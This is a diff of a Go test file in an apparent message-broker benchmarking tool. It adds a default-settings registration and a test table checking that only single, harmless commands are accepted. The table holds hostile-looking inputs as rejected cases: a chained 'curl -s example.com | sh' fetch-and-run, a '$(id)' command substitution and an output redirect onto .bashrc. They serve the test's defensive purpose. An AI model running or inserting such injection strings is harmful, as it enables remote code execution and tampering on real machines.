@@ -15,7 +15,12 @@ import (
 	"github.com/brokermark/brokermark/internal/render"
 	"github.com/brokermark/brokermark/internal/store"
 	"github.com/brokermark/brokermark/internal/study"
+	"github.com/brokermark/brokermark/internal/usual"
 )
+
+func init() {
+	usual.Register("jetstream", usual.Defaults{Settings: map[string]string{"client.AckWait": "30s"}}) // what Measured sets
+}
 
 func TestADecisionShowsACommandThatDoesOneThingOnly(t *testing.T) {
 	for persistence, shown := range map[string]bool{"log": true, "log --p99 20ms; curl -s example.com | sh #": false, "$(id)": false, "log -o .bashrc": false, "-o": false} {
